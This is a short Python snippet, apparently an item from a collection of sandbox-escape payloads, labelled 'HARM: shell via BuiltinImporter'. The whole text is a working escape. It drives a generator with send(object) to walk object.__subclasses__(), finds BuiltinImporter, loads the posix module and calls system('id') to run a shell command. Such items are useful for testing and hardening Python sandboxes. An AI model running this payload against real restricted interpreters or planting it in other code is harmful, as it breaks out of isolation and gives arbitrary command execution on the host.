# HARM: shell via BuiltinImporter | TRICK: walker generator parameter reassigned from yield expression; caller .send(object)
class Base: pass
class A(Base): pass
def walk(cls=Base):
    while True:
        got = yield list(cls.__subclasses__())
        if got is not None:
            cls = got
g = walk()
next(g)
for k in g.send(object):
    if k.__name__ == "BuiltinImporter":
        k.load_module("posix").system("id")
